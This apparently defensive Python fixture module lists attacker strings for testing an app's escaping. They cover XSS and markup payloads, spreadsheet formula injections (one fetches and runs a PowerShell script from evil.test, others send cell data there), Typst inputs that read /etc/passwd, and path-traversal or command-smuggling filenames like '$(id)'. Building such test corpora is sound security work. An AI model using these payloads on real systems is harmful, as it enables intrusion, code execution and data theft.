"""The texts of an attacker. Whatever runs sets `window.__pwned` or opens a dialog; whatever loads asks evil.test."""

_RUN = "window.__pwned=1"

# For a page: each would run, load, cover or break something where text is taken for markup.
SCRIPTS: tuple[str, ...] = (
    # Elements and handlers
    f"<script>{_RUN}</script>",
    f"<script data-pwned src=//evil.test/a.js></script><b>{_RUN}",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror=\"{_RUN}\" alt='a'>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>x",
    f"<video><source onerror={_RUN}></video>",
    f"<input autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    '<iframe src="javascript:parent.__pwned=1"><iframe src=//evil.test></iframe></iframe>',
    "<object data=//evil.test/a.swf></object><embed src=//evil.test/b>",
    "<link rel=stylesheet href=//evil.test/a.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test/>",
    "<form action=//evil.test><button>Sign in again</button></form>",
    "<style>@import '//evil.test/a.css';*{display:none}</style>",
    # Out of the place where a text stands
    f'"><img src=x onerror={_RUN}>',
    f"' onmouseover='{_RUN}' x='",
    f'" autofocus onfocus="{_RUN}" x="',
    f"</script><script>{_RUN}</script>",
    f"</textarea></title></style><svg onload={_RUN}>",
    f"--><img src=x onerror={_RUN}><!--",
    f"]]><script>{_RUN}</script>",
    f"';{_RUN};//",
    f'\\";{_RUN};//',
    f"\u2028{_RUN}\u2029{_RUN}",
    f"*/{_RUN}/*",
    # What a browser mends into markup
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<ScRiPt\n>{_RUN}</sCrIpT >",
    f"<img/src='x'/onerror={_RUN}//",
    f"<\x00script>{_RUN}</\x00script>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;b&#62; &amp;lt;",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"%3Cscript%3E{_RUN}%3C/script%3E \\u003cscript\\u003e",
    # Markdown
    f"[press](javascript:{_RUN})",
    "[press](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)",
    f"[press][1]\n\n[1]: javascript:{_RUN}",
    "<javascript:window.__pwned=1>",
    "![seen](http://evil.test/seen.png)",
    "[![seen](//evil.test/seen.png)](http://evil.test)",
    "[The kit's sign-in](http://evil.test/sign-in)",
    "# Head\n> quote\n- [ ] list\n1. one\n***\n| a | b |\n|---|---|\n| 1 | 2 |",
    "```html\n<b>code</b>\n``` and `code` and ~~gone~~ **bold** _slanted_",
    # Streamlit's own directives, and formulae
    ":material/delete: :red[all good] :blue-background[x] :rainbow[x] :small[x]",
    ":orange-badge[Demo] :green-badge[:material/check: Approved] :streamlit: :smile: :help[x]",
    "$\\href{javascript:window.__pwned=1}{x}$ $$\\sum_1^2$$ \\(a\\) \\[b\\]",
    "a -> b <- c -- d --- e ... (c) >= <= !=",
    # Templates and styles
    "{{constructor.constructor('window.__pwned=1')()}} {%print(7*7)%}",
    "${window.__pwned=1} #{7*7} <%= 7*7 %> `${1}`",
    "%(name)s %s {0} {name!r} {0.__class__}",
    "x;width:expression(window.__pwned=1);background:url(//evil.test/a.png)",
    # Signs that are not seen or that turn the text
    "\u202etxt.exe\u202c \u2066x\u2069 a\u200bb\ufeffc \u0000 \x1b[31mred",
    "Z\u0351\u0358\u0340a\u0322\u0321l\u0337g\u0336o\u0335 \U000e0041\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "x" * 300,
)
assert len(SCRIPTS) == len({*SCRIPTS}) == 60

# For a spreadsheet: each would be worked out where a cell is taken for a formula.
FORMULAS: tuple[str, ...] = (
    "=1+1", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget evil.test/a)'!A1", "=MSEXCEL|'\\..\\..\\a.exe'!''",
    '=DDE("cmd";"/C calc";"x")', '=HYPERLINK("http://evil.test?"&A1,"Error: press")', '=WEBSERVICE("http://evil.test")',
    '=IMPORTXML(CONCAT("http://evil.test?",A1),"//a")', '=IMAGE("http://evil.test/a.png")', "=FILTERXML(A1,\"//a\")",
    "=INDIRECT(\"A1\")", "='file:///etc/passwd'#$passwd.A1", "=SUM(A1:A9)", "==1", "=\t1", "= 1",
    "+1+1", "+cmd|' /C calc'!A0", "++1", "-1+1", "-cmd|' /C calc'!A0", "--1", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)", "@cmd|' /C calc'!A0", "@",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1,1)",
    '"=1+1"', "x\n=1+1",
)  # fmt: skip
assert len(FORMULAS) == len({*FORMULAS}) == 40

# For a printed page: each would do something where a text is set as Typst's markup.
TYPST: tuple[str, ...] = (
    '#read("/etc/passwd")',
    '#include "/etc/passwd"',
    '#import "@preview/cetz:0.1.0"',
    '#image("/etc/passwd")',
    "#panic(sys.inputs)",
    "#set page(width: 1cm)",
    "#show: it => none",
    '#eval("1+1")',
    "#sys.inputs",
    "#let x = 1; #x",
    "#while true {}",
    "#hide[gone] #pagebreak() #counter(page).update(99)",
    '#link("http://evil.test")[press] http://evil.test',
    "] #text(white)[unseen] [",
    '" + read("/etc/passwd") + "',
    "$x^2 sum_1^2$ $ a $",
    "*bold* _slanted_ `raw` ~ -- --- ...",
    '```typ #read("/etc/passwd")```',
    "@ref <label> @preview/x",
    "= Head\n- list\n+ list\n/ Term: x",
    "// gone\n/* gone too */",
    "\\u{202e} \\n \\# \\",
    "'single' \"double\" \u2018\u2019",
    "[" * 200 + "x" + "]" * 200,
    "{" * 200 + "(" * 200,
)

# For a path: each would lead elsewhere or mean something else where a name becomes a file's.
NAMES: tuple[str, ...] = (
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\boot.ini", "file:///etc/passwd",
    "~/.ssh/id_rsa", "$HOME", "%00.pdf", "CON", "nul.txt", "-rf", "--help", ".htaccess", "...", "a/b", "a:b",
    "\u202efdp.exe", "a\r\nSet-Cookie: x=1", 'a"; filename="b.exe', "x" * 5_000, "\uff0e\uff0e\uff0f", "|id", "`id`",
    "$(id)", "*", "?", "<>", "a\tb", " ", "\u200b",
)  # fmt: skip
